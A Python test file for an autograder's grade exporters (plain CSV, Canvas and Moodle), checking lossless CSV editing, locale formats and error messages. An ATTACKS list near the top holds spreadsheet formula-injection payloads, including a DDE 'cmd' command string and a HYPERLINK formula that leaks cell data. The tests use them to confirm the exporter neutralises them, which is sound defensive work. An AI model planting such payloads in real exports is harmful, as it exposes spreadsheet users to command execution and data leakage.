"""Exports are read by a parser of their format; what is not ours in a file stays as it was."""

import csv
import io
import logging
import os
import shutil
import sqlite3
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbgrader.api import Gradebook
from nbgrader.plugins.export import CsvExportPlugin
from sqlalchemy.exc import OperationalError

from autograder.cli import main
from autograder.course.course import find_course
from autograder.export import CanvasExporter, CsvExporter, MoodleExporter, csv_files, lossless_csv
from autograder.export.base import Report
from autograder.export.csv_injection import neutral
from autograder.export.filling import fill
from autograder.export.lossless_csv import Worksheet
from autograder.export.moodle_headings import HEADINGS, YES
from autograder.gradebook.converters import new_gradebook
from autograder.gradebook.scores import ExportError, Score, Student
from tests.support import commands
from tests.support.small_course import configured_course, released_course

KIT = Path(__file__).resolve().parents[3]
ATTACKS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", '"=1', "'=1", "\u201c=1",
    "\uff1d1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\ufe661", "\u22121", "\u200b=1", "\ufeff=1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?"&A1)', "\x00=1", "ada;=1", 'ada";"=1',
    "ada\n=1", "ada,@x", "\tada",
]  # fmt: skip
CANVAS = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Notes,alpha (501),Beta: a try (502),"
    "Assignments Current Score,Final Score\n"
    ",,,,,,,Manual Posting,,\n"
    "    Points Possible,,,,,,4.00,10.00,(read only),(read only)\n"
    '"Lovelace, Ada",11,S-1,ada,"Lab, Monday",=A1,,"7.00",,\n'
    '"Byte, ""Bob""",12,S-2,bob@example.org,Lab,, 2.5 ,EX,93.10,A\n'
    "Null,13,S-3,cyd,Lab,,N/A,,,\n"
    '"Other, Olga",14,S-4,olga,Lab,,1.00,,,\n'
    '"Student, Test",99,,5f1c,Lab,,,,,\n'
)
MOODLE = {
    "en": (
        '\ufeffIdentifier,"Full name","Email address",Status,Grade,"Maximum Grade",'
        '"Grade can be changed","Last modified (submission)","Last modified (grade)",'
        '"Feedback comments"\n',
        "Participant ", "Yes", "No", "8.00", "100.00", ",", "\n",
    ),
    "de": (
        "ID;Vollständiger Name;E-Mail-Adresse;Status;Bewertung;Bestwertung;"
        "Bewertung kann geändert werden;Zuletzt geändert (Abgabe);Zuletzt geändert (Bewertung);"
        "Feedback als Kommentar\r\n",
        "Teilnehmer/in", "Ja", "Nein", "8,00", "100,00", ";", "\r\n",
    ),
    "fr": (
        '\ufeffIdentifiant,"Nom complet","Adresse de courriel",Statut,Note,"Note maximale",'
        '"La note peut être modifiée","Dernière modification (travail remis)",'
        '"Dernière modification (note)","Feedback par commentaires"\n',
        "Participant", "Oui", "Non", '"8,00"', '"100,00"', ",", "\n",
    ),
    "es": (
        'Identificador,"Nombre completo","Dirección de correo",Estado,Calificación,'
        '"Calificación máxima","La calificación puede ser cambiada",'
        '"Última modificación (entrega)","Última modificación (calificación)",'
        '"Comentarios de retroalimentación"\n',
        "Participante", "Sí", "No", '"8,00"', '"100,00"', ",", "\n",
    ),
    "zh_cn": (
        "\ufeff标识符,全名,电子邮件地址,状态,成绩,最高分,允许更改成绩,上次修改（作业）,"  # noqa: RUF001
        "上次修改（评分）,反馈意见\n",  # noqa: RUF001
        "参与人", "是的", "否", "8.00", "100.00", ",", "\n",
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def filled(tmp_path_factory):
    """A gradebook of alpha (4 points: add, double), beta (5 points: times) and four students.

    ada has 3 of 4 and 4 of 5, bob 4 less a penalty of 1.5 and 5, cyd 1 and nothing in beta;
    dan's alpha waits for a grade by hand.
    """
    path = tmp_path_factory.mktemp("gradebook") / "gradebook.db"
    new_gradebook(path)
    with Gradebook(f"sqlite:///{path}", "small") as gradebook:
        for name, cells in {"alpha": {"add": 3, "double": 1}, "beta": {"times": 5}}.items():
            gradebook.add_assignment(name)
            gradebook.add_notebook(name, name)
            for cell, points in cells.items():
                gradebook.add_grade_cell(cell, name, name, max_score=points, cell_type="code")
        student(gradebook, "ada", "Ada", "Lovelace", "ada@example.org", {"add": 3, "double": 0}, 4)
        student(gradebook, "bob", "Bob", "Byte", "bob@example.org", {"add": 3, "double": 1}, 5)
        student(gradebook, "cyd", "Cyd", None, "cyd@example.org", {"add": 0.5, "double": 0.5}, None)
        student(gradebook, "dan", None, None, None, {"add": 3, "double": None}, None)
        late = gradebook.find_submission_notebook("alpha", "alpha", "bob")
        late.late_submission_penalty = 1.5
        gradebook.db.commit()
    return path


@pytest.fixture
def book(filled, tmp_path):
    shutil.copy(filled, tmp_path)
    with Gradebook(f"sqlite:///{tmp_path}/gradebook.db", "small") as gradebook:
        yield gradebook


def student(book, name, first, last, email, alpha=None, beta=None):
    book.add_student(name, first_name=first, last_name=last, email=email)
    for assignment, scores in {"alpha": alpha, "beta": beta and {"times": beta}}.items():
        if scores is None:
            continue
        book.add_submission(assignment, name)
        for cell, score in scores.items():
            grade = book.find_grade(cell, assignment, assignment, name)
            grade.auto_score, grade.needs_manual_grade = score, score is None
    book.db.commit()


def parsed(path, delimiter=","):
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


def put(path, text):
    path.write_bytes(text.encode())
    return path


def canvas(tmp_path, text=CANVAS, **settings):
    source = put(tmp_path / "canvas.csv", text)
    columns = settings.pop("columns", {"beta": "502"})
    return CanvasExporter(source=str(source), columns=columns, **settings)


def moodle(tmp_path, language="en", **settings):
    heading, who, yes, no, grade, most, mark, end = MOODLE[language]
    text = heading + "".join(
        mark.join([f"{who}{number}", name, mail, "-", old, most, can, "-", "-", "<p>=1</p>"]) + end
        for number, name, mail, old, can in (
            (7, '"Lovelace Ada"', "ada@example.org", "", yes),
            (8, "Bob", "BOB@example.org", grade, yes),
            (9, "Cyd", "cyd@example.org", "", no),
            (10, "Olga", "olga@example.org", grade, yes),
        )
    )
    source = put(tmp_path / "moodle.csv", text)
    return MoodleExporter(source=str(source), assignment=["alpha"], **settings)


# --- neutral text -------------------------------------------------------------------------------


def dangerous(cell):
    """Whether a spreadsheet could take this for a formula: written apart from formulas.py."""
    first = cell.lstrip(' \t\r\n\0\u200b\ufeff\u201c"')[:1]
    return unicodedata.normalize("NFKC", first) in set("=+-@\u2212")


def assert_neutral(text):
    """Nothing runs, whatever the program that opens it takes for the end of a cell."""
    assert text[:1] not in ("\t", "\r", "\n", "\0")
    for separator in ",;\t\n\r":
        assert not any(dangerous(part) for part in text.split(separator))


@pytest.mark.parametrize("text", ATTACKS)
def test_what_begins_a_formula_gets_a_quote(text):
    quoted = neutral(text)
    assert quoted.replace("'", "") == text.replace("'", "")
    assert len(quoted) > len(text)
    assert_neutral(quoted)


@pytest.mark.parametrize(
    "text", ["", "Ada", "O'Neil", "Müller-Lüdenscheidt", "a=b", "ada@example.org", "1-2", "李 明"]
)
def test_harmless_text_stays_as_it_is(text):
    assert neutral(text) == text


@given(st.text(st.sampled_from("=+-@\t\r\n ;,\"'a\uff1d\u200b\0")) | st.text())
def test_no_neutral_text_begins_a_formula_wherever_it_is_cut(text):
    assert_neutral(neutral(text))


# --- the instructor's own files -----------------------------------------------------------------

TEXTS = st.text(st.sampled_from('ab ,;"\n\r\t=é') | st.characters(codec="utf-8"), max_size=6)


@st.composite
def tables(draw):
    """A table as text, its delimiter, and its cells: as they read, and as they are written."""
    delimiter = draw(st.sampled_from(",;\t"))
    width = draw(st.integers(2, 4))
    texts = draw(st.lists(st.lists(TEXTS, min_size=width, max_size=width), min_size=1, max_size=4))
    texts = [["h"] * width, *([f"x{row[0]}", *row[1:]] for row in texts)]

    def written(text):
        must = any(mark in text for mark in f'"\r\n{delimiter}')
        return '"' + text.replace('"', '""') + '"' if must or draw(st.booleans()) else text

    raw = [[written(text) for text in row] for row in texts]
    end = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    # Rows without anything in them are no rows.
    between = draw(st.sampled_from([end, end + end]))
    last = draw(st.sampled_from(["", end, end + delimiter * (width - 1) + end]))
    bom = draw(st.sampled_from(["", "\ufeff"]))
    return bom, between, last, delimiter, texts, raw


@given(tables(), st.data())
@settings(max_examples=150)
def test_filling_a_cell_changes_that_cell_alone(tmp_path_factory, table, data):
    bom, end, last, delimiter, texts, raw = table

    def file():
        return (bom + end.join(delimiter.join(row) for row in raw) + last).encode()

    path = tmp_path_factory.mktemp("sheet") / "sheet.csv"
    path.write_bytes(file())
    sheet = Worksheet(path)
    assert sheet.delimiter == delimiter
    assert sheet.encode() == file()
    read = [[sheet.read(row, at) for at in range(len(texts[0]))] for row in (0, *sheet.rows)]
    assert read == texts
    assert [row for row in parsed(path, delimiter) if any(row)] == texts
    row = data.draw(st.integers(1, len(texts) - 1))
    column = data.draw(st.integers(0, len(texts[0]) - 1))
    sheet.fill(row, column, "1,5")
    quoted = delimiter == "," or raw[row][column].startswith('"')
    raw[row][column] = '"1,5"' if quoted else "1,5"
    assert sheet.encode() == file()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "sheet.csv: holds no table"),
        (b"\n\n", "sheet.csv: holds no table"),
        (b"a,b\n1,2\n\n3\n", "sheet.csv:4: 1 cells, but the heading has 2"),
        (b'a,b\n1,"2\n3,4\n', "sheet.csv:2: a quotation mark that does not end its cell"),
        (b'a,b\n1,"2"3\n', "sheet.csv:2: a quotation mark that does not end its cell"),
        (b"a,b\n\xe9,2\n", "sheet.csv: byte 4 is not UTF-8"),
        ("a,b\n1,2\n".encode("utf-16"), "sheet.csv: byte 0 is not UTF-8"),
    ],
)
def test_what_is_no_table_is_refused_in_one_line(tmp_path, data, message):
    (tmp_path / "sheet.csv").write_bytes(data)
    with pytest.raises(ExportError) as error:
        Worksheet(tmp_path / "sheet.csv")
    assert str(error.value).startswith(message)
    assert "\n" not in str(error.value)


def test_a_file_that_is_too_large_or_none_is_not_read(tmp_path, monkeypatch):
    monkeypatch.setattr(lossless_csv, "_LARGEST", 10)
    with pytest.raises(ExportError, match="12 bytes, the limit is 10"):
        Worksheet(put(tmp_path / "large.csv", "a,b\n1,2\n3,4\n"))
    os.mkfifo(tmp_path / "pipe.csv")
    for name in ("pipe.csv", "."):
        with pytest.raises(ExportError, match="is not a file"):
            Worksheet(tmp_path / name)
    with pytest.raises(ExportError, match="cannot be read \\(No such file"):
        Worksheet(tmp_path / "none.csv")


# --- plain CSV ----------------------------------------------------------------------------------


def table(path):
    """The rows of a file of ours, by column."""
    heading, *rows = parsed(path)
    return [dict(zip(heading, row, strict=True)) for row in rows]


def test_plain_csv_has_a_row_for_each_submission_and_each_question(book, tmp_path):
    book.update_or_create_assignment("beta", duedate="2026-01-02 12:00:00 UTC")
    report = CsvExporter(to=str(tmp_path / "out.csv")).write(book)
    assert report.written == [tmp_path / "out.csv", tmp_path / "out-questions.csv"]
    rows = table(report.written[0])
    assert len(rows) == 8
    assert tuple(rows[0]) == csv_files.GRADES
    numbers = ("raw_score", "late_submission_penalty", "score", "max_score", "status")
    actual = {(row["student_id"], row["assignment"]): [row[key] for key in numbers] for row in rows}
    assert actual["ada", "alpha"] == ["3.0", "0.0", "3.0", "4.0", "graded"]
    assert actual["bob", "alpha"] == ["4.0", "1.5", "2.5", "4.0", "graded"]
    assert actual["cyd", "beta"] == ["", "", "", "5.0", "missing"]
    assert actual["dan", "alpha"] == ["3.0", "0.0", "", "4.0", "waiting"]
    assert {row["duedate"] for row in rows} == {"", "2026-01-02 12:00:00"}
    rows = table(report.written[1])
    assert len(rows) == 2 * 4 + 2
    assert tuple(rows[0]) == csv_files.QUESTIONS
    rows = [tuple(row.values()) for row in rows]
    assert ("ada", "alpha", "add", "3.0", "3.0", "0") in rows
    assert ("dan", "alpha", "double", "", "1.0", "1") in rows
    assert report.notes == [
        "alpha: 1 waiting for a grade by hand, left empty: dan. Grade in the formgrader",
        "beta: 2 not handed in, left empty: cyd, dan",
    ]


def test_what_is_missing_counts_as_0_where_that_is_asked_for(book, tmp_path):
    report = CsvExporter(to=str(tmp_path / "out.csv"), missing_as_zero=True).write(book)
    scores = {(row["student_id"], row["assignment"]): row for row in table(report.written[0])}
    assert [scores[name, "beta"]["score"] for name in ("ada", "cyd", "dan")] == [
        "4.0",
        "0.0",
        "0.0",
    ]
    assert scores["cyd", "beta"]["status"] == "missing"
    assert scores["dan", "alpha"]["score"] == ""  # it waits
    assert report.notes[-1] == "beta: 2 not handed in, counted as 0: cyd, dan"
    filled = canvas(tmp_path, missing_as_zero=True).write(book)
    assert [row[7] for row in parsed(filled.written[0])[3:6]] == ["8.00", "EX", "0.00"]


def test_a_class_has_one_line_for_all_that_is_missing(book, tmp_path):
    for number in range(60):
        student(book, f"student{number:02}", None, None, None)
    report = CsvExporter(to=str(tmp_path / "out.csv"), assignment=["beta"]).write(book)
    assert report.notes == [
        "beta: 62 not handed in, left empty: cyd, dan, student00, student01, student02 and 57 more"
    ]


@pytest.mark.parametrize("heading", ["2. The second one", "the second ONE"])
def test_a_canvas_column_may_have_the_notebooks_title(book, tmp_path, heading):
    course = released_course(tmp_path / "course")
    solution = course.assignments["beta"].path
    solution.write_text(solution.read_text().replace("# # Multiplying", "# # 2. The second one"))
    exporter = canvas(tmp_path, CANVAS.replace("Beta: a try", heading), columns={})
    exporter.course = find_course(course.root)
    report = exporter.write(book)
    assert [row[7] for row in parsed(report.written[0])[3:4]] == ["8.00"]


def test_plain_csv_says_what_nbgraders_own_export_says(book, tmp_path):
    CsvExporter(to=str(tmp_path / "ours.csv")).write(book)
    CsvExportPlugin(to=str(tmp_path / "theirs.csv")).export(book)
    theirs = {(row["assignment"], row["student_id"]): row for row in table(tmp_path / "theirs.csv")}
    ours = table(tmp_path / "ours.csv")
    assert len(ours) == len(theirs)
    for row in ours:
        status = row.pop("status")
        if status == "graded":
            assert row == theirs[row["assignment"], row["student_id"]]


def test_formulas_of_students_are_text_and_numbers_are_numbers(book, tmp_path):
    for number, attack in enumerate(ATTACKS):
        student(book, f"{attack}{number}", attack, attack, attack, {"add": -2, "double": 0})
    report = CsvExporter(to=str(tmp_path / "out.csv")).write(book)
    for path, most in zip(report.written, (4 + len(ATTACKS), 5 + len(ATTACKS)), strict=True):
        rows = parsed(path)
        assert len(rows) == 1 + 2 * most
        for row in rows:
            for cell in row:
                if cell != "-2.0":
                    assert_neutral(cell)
    row = next(row for row in table(report.written[0]) if row["student_id"] == "'=1+10")
    assert [row["last_name"], row["first_name"], row["email"]] == ["'=1+1"] * 3
    assert row["raw_score"] == "-2.0"
    assert b'"\'=1+10","alpha","add",-2.0,' in report.written[1].read_bytes()


def test_only_what_is_named_is_exported(book, tmp_path):
    exporter = CsvExporter(
        to=str(tmp_path / "out.csv"), assignment=["beta"], student=["bob", "ada"]
    )
    rows = table(exporter.write(book).written[0])
    assert [(row["student_id"], row["assignment"]) for row in rows] == [
        ("ada", "beta"), ("bob", "beta"),
    ]  # fmt: skip
    exporter = CsvExporter(to=str(tmp_path / "no.csv"), assignment=["gamma"], student=["zoe"])
    with pytest.raises(ExportError) as error:
        exporter.write(book)
    assert [line.partition(".")[0] for line in error.value.lines] == [
        "gamma: the gradebook has no such assignment", "zoe: the gradebook has no such student",
    ]  # fmt: skip
    assert not (tmp_path / "no.csv").exists()


# --- Canvas -------------------------------------------------------------------------------------


def test_canvas_file_is_filled_and_nothing_else_in_it_changes(book, tmp_path):
    report = canvas(tmp_path).write(book)
    assert report.written == [tmp_path / "canvas-graded.csv"]
    assert (tmp_path / "canvas.csv").read_bytes() == CANVAS.encode()
    expected = (
        CANVAS.replace('Monday",=A1,,"7.00"', 'Monday",=A1,3.00,"8.00"')
        .replace(" 2.5 ,EX", "2.50,EX")
    )  # fmt: skip
    assert report.written[0].read_bytes() == expected.encode()
    assert report.notes == [
        "canvas.csv: 3 of 4 students found by 'SIS Login ID'",
        "canvas.csv:7: Other, Olga is not in the gradebook, left as it is",
        "beta: worth 5 points in the gradebook and 10 in Canvas; scores are scaled",
        "beta: 2 not handed in, left as is: cyd, dan",
        "ada/beta: 8.00 takes the place of 7.00",
    ]
    assert report.missed == [
        "alpha: 1 waiting for a grade by hand, left as is: dan. Grade in the formgrader",
        "cyd/alpha: canvas.csv:6 says N/A, left as it is",
        "bob/beta: canvas.csv:5 says EX, left as it is",
    ]


def test_canvas_in_another_locale_keeps_encoding_delimiter_ends_and_decimal_comma(book, tmp_path):
    text = (
        "\ufeff" + "Student;ID;SIS Login ID;Section;alpha (501)\n    Points Possible;;;;4,00\n"
        'Müller, "Ada";11;ada;Übung;\nBob;12;bob;"A;B";"1,00"\n'
    ).replace("\n", "\r\n")
    report = canvas(tmp_path, text, assignment=["alpha"]).write(book)
    assert report.written[0].read_bytes() == (
        text.replace("Übung;", "Übung;3,00").replace('"1,00"', '"2,50"').encode()
    )
    assert parsed(report.written[0], ";")[2] == ['Müller, "Ada"', "11", "ada", "Übung", "3,00"]


def test_canvas_students_by_number_alone(book, tmp_path):
    """A file without SIS columns: Canvas's own number is nbgrader's LMS user id."""
    book.update_or_create_student("ada", lms_user_id="12")
    book.update_or_create_student("bob", lms_user_id="11")
    text = "Student,ID,Section,alpha (501)\n    Points Possible,,,4\nBob,11,,\nAda,12,,\n"
    report = canvas(tmp_path, text, assignment=["alpha"], student=["ada", "bob"]).write(book)
    assert [row[3] for row in parsed(report.written[0])[2:]] == ["2.50", "3.00"]


@pytest.mark.parametrize(
    ("columns", "messages"),
    [
        ({}, ["beta: canvas.csv has no column 'beta' (columns: alpha (501), Beta: a try (502))"]),
        ({"beta": "alpha"}, ["canvas.csv: two assignments have the same column"]),
        ({"alpha": "x", "beta": "503"}, ["alpha: canvas.csv has no", "beta: canvas.csv has no"]),
        ({"beta": "Final Score"}, ["beta: canvas.csv has no column 'Final Score'"]),
    ],
)
def test_canvas_columns_that_do_not_fit_are_refused(book, tmp_path, columns, messages):
    with pytest.raises(ExportError) as error:
        canvas(tmp_path, columns=columns).write(book)
    assert len(error.value.lines) == len(messages)
    for line, message in zip(error.value.lines, messages, strict=True):
        assert line.startswith(message)
    assert not (tmp_path / "canvas-graded.csv").exists()


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("Student,ID", "Name,ID", "its first row is not that of a gradebook from Canvas"),
        ("Beta: a try (502)", "alpha (502)", "alpha: canvas.csv has more than one column for it"),
        ("4.00,10.00", "(read only),10.00", "has '(read only)' as the points of alpha (501)"),
    ],
)
def test_canvas_files_that_do_not_fit_are_refused(book, tmp_path, old, new, message):
    exporter = canvas(tmp_path, CANVAS.replace(old, new), student=["ada"])
    with pytest.raises(ExportError) as error:
        exporter.write(book)
    assert message in error.value.lines[0]
    assert not (tmp_path / "canvas-graded.csv").exists()


def test_a_canvas_file_of_another_class_is_refused(book, tmp_path):
    text = CANVAS.replace(",ada,", ",eve,").replace("bob@", "rob@").replace(",cyd,", ",sid,")
    with pytest.raises(ExportError, match="no student of the gradebook is in 'SIS Login ID', 'SIS"):
        canvas(tmp_path, text).write(book)


def test_canvas_for_one_student_leaves_the_others_as_they_are(book, tmp_path):
    report = canvas(tmp_path, student=["ada"]).write(book)
    expected = CANVAS.replace('Monday",=A1,,"7.00"', 'Monday",=A1,3.00,"8.00"')
    assert report.written[0].read_bytes() == expected.encode()
    assert [line for line in report.notes if "not in the gradebook" in line] == [
        "canvas.csv:7: Other, Olga is not in the gradebook, left as it is"
    ]
    assert report.missed == []


def test_students_who_are_not_unique_are_left_alone_and_named(book, tmp_path):
    student(book, "bob@example.org", "Bob", "Two", None, {"add": 1, "double": 1})
    report = canvas(tmp_path, CANVAS.replace(",cyd,", ",ada,"), assignment=["alpha"]).write(book)
    assert [row[6] for row in parsed(report.written[0])[3:6]] == ["", " 2.5 ", "N/A"]
    assert report.missed == [
        "alpha: 1 waiting for a grade by hand, left as is: dan. Grade in the formgrader",
        "ada/alpha: has more than one row (canvas.csv:4, canvas.csv:6). Enter it by hand",
        "bob/alpha: canvas.csv:5 fits bob@example.org as well. Correct their entries in the "
        "gradebook",
        "bob@example.org/alpha: canvas.csv:5 fits bob as well. Correct their entries in the "
        "gradebook",
        "cyd/alpha: has no row in canvas.csv. Enter it by hand",
    ]


def test_a_file_that_is_there_is_never_written_over(book, tmp_path):
    exporter = canvas(tmp_path)
    for to in ("canvas.csv", "other.csv"):
        put(tmp_path / "other.csv", "mine")
        exporter.to = str(tmp_path / to)
        before = (tmp_path / to).read_bytes()
        with pytest.raises(ExportError, match="is there already"):
            exporter.write(book)
        assert (tmp_path / to).read_bytes() == before
    with pytest.raises(ExportError, match="cannot be written"):
        canvas(tmp_path, to=str(tmp_path / "none" / "x.csv")).write(book)
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        "canvas.csv", "gradebook.db", "other.csv",
    ]  # fmt: skip


# --- Moodle -------------------------------------------------------------------------------------


@pytest.mark.parametrize("language", MOODLE)
def test_moodle_worksheet_is_filled_and_nothing_else_in_it_changes(book, tmp_path, language):
    exporter = moodle(tmp_path, language)
    before = (tmp_path / "moodle.csv").read_bytes()
    report = exporter.write(book)
    *_, grade, most, mark, _ = MOODLE[language]
    comma = "," in most
    ada, bob = ("75,00", "62,50") if comma else ("75.00", "62.50")
    if comma and mark == ",":
        ada, bob = f'"{ada}"', f'"{bob}"'
    expected = before.decode().replace(f"-{mark}{mark}{most}", f"-{mark}{ada}{mark}{most}", 1)
    expected = expected.replace(f"-{mark}{grade}{mark}", f"-{mark}{bob}{mark}", 1)
    assert report.written[0].read_bytes().decode() == expected
    rows = parsed(report.written[0], mark)
    assert [row[4] for row in rows[1:3]] == [ada.strip('"'), bob.strip('"')]
    assert (
        "alpha: worth 4 points in the gradebook and 100 in Moodle; scores are scaled"
        in report.notes
    )
    assert any("takes the place of" in line for line in report.notes)
    assert len([line for line in report.notes if "is not in the gradebook" in line]) == 1
    assert [line.partition(":")[0] for line in report.missed] == ["alpha", "cyd/alpha"]


def test_moodle_in_an_unknown_language_by_named_columns(book, tmp_path):
    exporter = moodle(tmp_path)
    text = (tmp_path / "moodle.csv").read_text(encoding="utf-8")
    for old, new in {"Grade,": "Hinne,", "Identifier": "Tunnus", "Yes": "Jah"}.items():
        text = text.replace(old, new)
    put(tmp_path / "moodle.csv", text)
    with pytest.raises(ExportError) as error:
        exporter.write(book)
    assert [line[:40] for line in error.value.lines] == [
        "moodle.csv: no known heading for the ide", "moodle.csv: no known heading for the gra",
    ]  # fmt: skip
    exporter.columns = {"grade": "hinne", "identifier": "Tunnus"}
    exporter.yes = "Jah"
    report = exporter.write(book)
    assert [row[4] for row in parsed(report.written[0])[1:3]] == ["75.00", "62.50"]
    exporter.columns = {"grade": "Grad", "mark": "x"}
    exporter.to = str(tmp_path / "other.csv")
    with pytest.raises(ExportError) as error:
        exporter.write(book)
    assert error.value.lines[0].startswith("mark: is no column to name")


def test_moodle_with_hidden_names_finds_students_by_lms_user_id_alone(book, tmp_path):
    text = "Identifier,Status,Grade,Maximum Grade,Grade can be changed\n" + "".join(
        f"{name},-,,4.00,Yes\n" for name in ("Participant 7", "ada", "Participant 8")
    )
    source = put(tmp_path / "blind.csv", text)
    exporter = MoodleExporter(source=str(source), assignment=["alpha"])
    with pytest.raises(ExportError, match="no student of the gradebook is in 'Identifier'"):
        exporter.write(book)
    book.update_or_create_student("ada", lms_user_id="Participant 8")
    report = exporter.write(book)
    assert [row[2] for row in parsed(report.written[0])[1:]] == ["", "", "3.00"]
    assert "bob/alpha: has no row in blind.csv. Enter it by hand" in report.missed


def test_moodle_takes_no_more_than_its_maximum(book, tmp_path):
    grade = book.find_grade("add", "alpha", "alpha", "ada")
    grade.extra_credit = 2
    book.db.commit()
    report = moodle(tmp_path, student=["ada"]).write(book)
    assert parsed(report.written[0])[1][4] == "100.00"
    assert any(line.startswith("ada/alpha: 125.00 is more than the 100") for line in report.notes)


def test_moodle_takes_all_points_where_scaling_rounds(book, tmp_path):
    """11 * (100 / 11) is a little more than 100."""
    score = Score(Student("ada", "", "", "", ""), "alpha", 11)
    path = tmp_path / "grades.csv"
    put(path, "who,grade\nada,\n")
    report, sheet = Report(), Worksheet(path)
    fill(sheet, 1, 1, score, 11, report, maximum=100, comma=False, most=100)
    assert (sheet.read(1, 1), report.notes) == ("100.00", [])


def test_moodle_without_a_maximum_or_with_two_grades_is_refused(book, tmp_path):
    exporter = moodle(tmp_path)
    text = (tmp_path / "moodle.csv").read_text(encoding="utf-8")
    put(tmp_path / "moodle.csv", text.replace("Maximum Grade", "Scale"))
    with pytest.raises(ExportError, match="no known heading for the maximum"):
        exporter.write(book)
    put(tmp_path / "moodle.csv", text.replace("Status", "Grade"))
    with pytest.raises(ExportError, match="'Grade' is there twice"):
        exporter.write(book)
    exporter.assignment = []
    put(tmp_path / "moodle.csv", text)
    with pytest.raises(ExportError, match="holds one assignment, the gradebook has alpha, beta"):
        exporter.write(book)
    exporter.assignment = ["alpha"]
    for old, new in {"100.00": "A to F", "Yes": ""}.items():
        put(tmp_path / "moodle.csv", text.replace(old, new))
        exporter.to = str(tmp_path / f"without {old}.csv")
        report = exporter.write(book)
        assert len(report.missed) == 4
        assert report.written[0].read_bytes() == (tmp_path / "moodle.csv").read_bytes()


def test_no_word_of_moodle_stands_for_two_columns():
    words = [word for known in HEADINGS.values() for word in known]
    assert len(words) == len(set(words))
    assert not YES & {"no", "nein", "non", "否", "nee", "não"}


# --- the command lines --------------------------------------------------------------------------


@pytest.fixture
def course(tmp_path, book):
    root = configured_course(tmp_path)
    (root / "submitted").mkdir()
    put(root / "canvas.csv", CANVAS)
    return root


def nbgrader_export(root, *arguments):
    return commands.nbgrader(root, "export", *arguments)


def test_nbgraders_own_command_exports(course, book):
    student(book, "=1+1", "\x1b[31m=cmd|' /C calc'!A0", None, None)
    book.db.commit()
    code, log = nbgrader_export(course)
    assert code == 0, log
    assert "'=1+1" in {row["student_id"] for row in table(course / "grades.csv")}
    assert "\x1b" not in log
    code, log = nbgrader_export(course, "--exporter=autograder.export.CanvasExporter")
    assert code == 1, log
    assert "Export the gradebook in Canvas and name it with --CanvasExporter.source=FILE" in log
    code, log = nbgrader_export(
        course,
        "--exporter=autograder.export.CanvasExporter",
        "--CanvasExporter.source=canvas.csv",
        "--CanvasExporter.columns=beta=502",
        "--to=filled.csv",
    )
    assert code == 1, log
    assert "NOT EXPORTED bob/beta: canvas.csv:5 says EX" in log
    assert parsed(course / "filled.csv")[3][6:8] == ["3.00", "8.00"]


def test_a_refused_export_ends_nbgrader_with_a_line_for_each_reason(book, tmp_path, caplog):
    exporter = canvas(tmp_path, columns={"alpha": "a\x1b[31mb", "beta": "7"})
    exporter.log = logging.getLogger()
    with pytest.raises(SystemExit) as stop:
        exporter.export(book)
    assert stop.value.code == 1
    assert [message.partition(" (")[0] for message in caplog.messages] == [
        r"Nothing was exported: alpha: canvas.csv has no column 'a\x1b[31mb'",
        "Nothing was exported: beta: canvas.csv has no column '7'",
    ]


def test_the_kits_command_exports(course, monkeypatch, capsys):
    monkeypatch.chdir(course)
    monkeypatch.delenv("AUTOGRADER_COURSE", raising=False)
    assert main.main(["export", "csv"]) == 0
    assert (course / "grades.csv").exists()
    assert (course / "grades-questions.csv").exists()
    capsys.readouterr()
    with (course / "nbgrader_config.py").open("a") as file:
        file.write('\nc.CanvasExporter.columns = {"beta": "502"}\n')
    assert main.main(["export", "canvas", "canvas.csv", "--student", "ada"]) == 0
    assert capsys.readouterr().out.splitlines()[-1] == "Written: canvas-graded.csv"
    assert parsed(course / "canvas-graded.csv")[3][6:8] == ["3.00", "8.00"]
    assert main.main(["export", "canvas", "canvas.csv", "--to", "b.csv", "--column", "beta=7"]) == 1
    assert capsys.readouterr().err.startswith(
        "Nothing was exported: beta: canvas.csv has no column"
    )
    with pytest.raises(SystemExit):
        main.main(["export", "moodle", "canvas.csv", "--column", "beta"])


@pytest.mark.parametrize("command", [["report"], ["export", "csv"]])
def test_a_gradebook_that_is_none_is_said_in_one_line(course, command, monkeypatch, capsys):
    monkeypatch.chdir(course)
    monkeypatch.delenv("AUTOGRADER_COURSE", raising=False)
    (course / "gradebook.db").write_text("not a database " * 100)
    assert main.main(command) == 1
    printed = capsys.readouterr()
    assert "cannot be read as a gradebook" in printed.err
    assert printed.err.count("\n") == 1
    assert printed.out == ""
    (course / "gradebook.db").unlink()
    assert main.main(command) == 1
    assert "there is no gradebook yet" in capsys.readouterr().err.casefold()


@pytest.mark.parametrize(
    ("module", "command"),
    [("base", ["export", "csv"]), ("feedback", ["export", "feedback", "students"])],
)
def test_a_gradebook_that_is_locked_in_between_is_said_in_one_line(
    course, module, command, monkeypatch, capsys
):
    def locked(*_):
        raise OperationalError("SELECT", {}, sqlite3.OperationalError("database is locked"))

    monkeypatch.chdir(course)
    monkeypatch.delenv("AUTOGRADER_COURSE", raising=False)
    monkeypatch.setattr(f"autograder.export.{module}.read_scores", locked)
    assert main.main(command) == 1
    printed = capsys.readouterr()
    assert "cannot be read (database is locked). Another program holds it" in printed.err
    assert printed.err.count("\n") == 1
